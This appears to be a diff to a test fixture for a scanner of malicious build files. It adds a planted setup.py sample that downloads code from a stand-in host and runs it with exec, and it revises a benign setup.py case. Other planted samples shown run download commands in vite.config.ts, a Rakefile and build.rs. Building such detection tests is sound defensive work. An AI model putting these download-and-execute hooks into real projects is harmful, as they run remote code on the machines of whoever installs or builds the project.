@@ -37,6 +37,11 @@ const PLANTED: readonly (readonly [path: string, text: string, becomes: Effect])
     'import urllib.request\nexec(urllib.request.urlopen("https://x.example/a").read())',
     'download_execute',
   ],
+  [
+    'setup.py',
+    'from urllib.request import urlopen\ntext = urlopen("https://x.example/a").read()\nexec(text)',
+    'download_execute',
+  ],
   ['vite.config.ts', `import { execSync } from 'node:child_process';\nexecSync("${GET}");`, 'download_execute'],
   ['Rakefile', `task :a do\n  sh "${GET}"\nend`, 'download_execute'],
   ['build.rs', `Command::new("sh").arg("-c").arg("${GET}").status();`, 'download_execute'],
@@ -126,7 +131,7 @@ const ORDINARY: readonly (readonly [path: string, text: string])[] = [
   ],
   [
     'setup.py',
-    'from setuptools import setup\nversion = {}\nexec(open("a/version.py").read(), version)\nsetup(name="a", url="https://github.com/a/a", version=version["v"])',
+    'import io\nfrom setuptools import setup\nversion = {}\nwith io.open("README.rst") as fh:\n    long = fh.read()\nwith open("a/version.py") as fp:\n    exec(fp.read(), version)\nsetup(name="a", extras_require={"aiohttp": ["aiohttp >= 3"]}, url="https://github.com/a/a", version=version["v"])',
   ],
   [
     'noxfile.py',
